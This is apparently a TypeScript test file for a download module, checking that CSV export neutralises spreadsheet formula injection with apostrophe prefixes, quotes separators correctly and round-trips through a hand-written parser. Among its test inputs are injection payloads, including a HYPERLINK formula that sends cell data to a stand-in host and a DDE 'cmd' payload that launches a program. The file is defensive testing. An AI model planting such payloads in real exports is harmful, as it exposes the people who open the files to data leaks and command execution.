// What leaves the page for a spreadsheet — plan
//   CSV       a text that a spreadsheet would compute gets an apostrophe, whatever it begins with; numbers, also as text,
//             and harmless texts stay; quotes around separators of any setting; property: reading the CSV back gives the
//             texts, with an apostrophe in front of formulas alone, and no cell begins a formula
//   JSONL     every text as it is
import fc from "fast-check";
import { expect, test } from "vitest";
import { csv, jsonLines } from "../../src/views/download";

test.each([
  ['=HYPERLINK("http://a.example/?x="&A1,"click")', `"'=HYPERLINK(""http://a.example/?x=""&A1,""click"")"`],
  ["=1+1", "'=1+1"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", `"'\t=1"`],
  ["\r=1", `"'\r=1"`],
  ["＝1+1", "'＝1+1"],
  ["a;=1", `"a;=1"`],
  ["-", "'-"],
  ["-5", "-5"],
  ["+0.25e-3", "+0.25e-3"],
  ["␣=", "␣="],
  ["'", "'"],
  ["", ""],
])("%j becomes %j", (text, cell) => expect(csv([[text]])).toBe(`${cell}\n`));

test("numbers are numbers", () => expect(csv([[-1.5, 2e-9, 0]])).toBe("-1.5,2e-9,0\n"));

/** RFC 4180, by hand: quotes, doubled quotes, separators. */
function read(text: string): string[][] {
  const rows: string[][] = [[""]];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const row = rows.at(-1)!;
    const put = (char = "") => row.push((row.pop() ?? "") + char);
    if (quoted && text[i] === '"' && text[i + 1] === '"') put(text[i++]);
    else if (text[i] === '"') quoted = !quoted;
    else if (quoted) put(text[i]);
    else if (text[i] === ",") row.push("");
    else if (text[i] === "\n") rows.push([""]);
    else put(text[i]);
  }
  return rows.slice(0, -1);
}

const nasty = fc.string({
  unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', "'", ",", ";", "a", "1", "＝"),
});
test("any texts, read back", () =>
  fc.assert(
    fc.property(
      fc.array(fc.array(nasty, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
      (rows) => {
        const back = read(csv(rows));
        expect(back.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        for (const [r, row] of rows.entries())
          for (const [c, text] of row.entries()) {
            const got = back[r]![c]!;
            if (got !== text) expect(got).toBe(`'${text}`);
            if (!Number.isFinite(Number(got.trim() || "x"))) expect(got).not.toMatch(/^[=+\-@\t\r\n＝]/);
          }
        const [head = [], ...body] = [["x", "y"], ...rows.map((row) => row.slice(0, 2))];
        const lines = jsonLines([head, ...body])
          .split("\n")
          .slice(0, -1);
        expect(lines.map((line) => JSON.parse(line))).toEqual(body.map(([x, y]) => ({ x, y })));
      },
    ),
    { seed: 7, numRuns: 400 },
  ));
